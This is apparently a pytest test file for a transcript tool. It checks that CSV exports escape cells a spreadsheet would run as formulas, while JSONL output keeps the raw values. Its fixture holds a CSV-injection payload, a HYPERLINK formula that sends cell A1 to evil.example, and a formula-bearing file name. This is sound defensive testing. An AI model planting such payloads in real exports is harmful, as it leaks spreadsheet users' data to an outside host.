"""CSV output is opened in spreadsheets: a text cell that a spreadsheet would
run as a formula starts with an apostrophe there, and only there (issue 9:
nothing that came in with the input is executed)."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pandas as pd
import pytest

from transcript_tool.cli import main
from transcript_tool.render.table import spreadsheet_safe

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE_FILE = "=2+3.json"  # the file and id columns come from the file's name
TURNS = [
    {"speaker": HOSTILE_NAME, "text": "Tell me about a project you led?"},
    {"speaker": "Candidate", "text": "I moved our billing service to a new database."},
    {"speaker": HOSTILE_NAME, "text": "And what happened next?"},
    {"speaker": "Candidate", "text": "Churn went down two percent after we shipped it."},
]
FORMULA = ("=", "+", "-", "@")


@pytest.fixture
def talk(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    path = tmp_path / HOSTILE_FILE
    path.write_text(json.dumps(TURNS), encoding="utf-8")
    return path


def cells(text: str) -> list[str]:
    frame = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    return [value for column in frame.columns for value in frame[column]]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a = b", "a = b"),
        ("", ""),
        (-1, -1),
        (2.5, 2.5),
        (None, None),
        (True, True),
    ],
)
def test_spreadsheet_safe(value: object, written: object) -> None:
    assert spreadsheet_safe(value) == written


@pytest.mark.parametrize("format", ["csv", "turns-csv"])
def test_report_csv_cells_never_start_a_formula(
    talk: Path, format: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["report", HOSTILE_FILE, "--format", format]) == 0
    found = cells(capsys.readouterr().out)
    assert "'" + HOSTILE_FILE in found
    assert not [cell for cell in found if cell.startswith(FORMULA)]
    if format == "turns-csv":
        assert found.count("'" + HOSTILE_NAME) == 2


def test_batch_csv_guards_and_jsonl_keeps_the_values(
    talk: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The same transcript through batch: CSV guarded, JSONL (data, not a
    spreadsheet) exactly as the input had it."""
    assert main(["batch", HOSTILE_FILE, "--out", "out.csv", "--turns-out", "turns.csv"]) == 0
    assert main(["batch", HOSTILE_FILE, "--out", "out.jsonl", "--turns-out", "turns.jsonl"]) == 0
    capsys.readouterr()
    for table in ("out.csv", "turns.csv"):
        found = cells(Path(table).read_text(encoding="utf-8"))
        assert "'" + HOSTILE_FILE in found
        assert not [cell for cell in found if cell.startswith(FORMULA)]
    rows = [json.loads(line) for line in Path("turns.jsonl").read_text("utf-8").splitlines()]
    assert [row["speaker"] for row in rows] == [turn["speaker"] for turn in TURNS]
    assert {row["file"] for row in rows} == {HOSTILE_FILE}
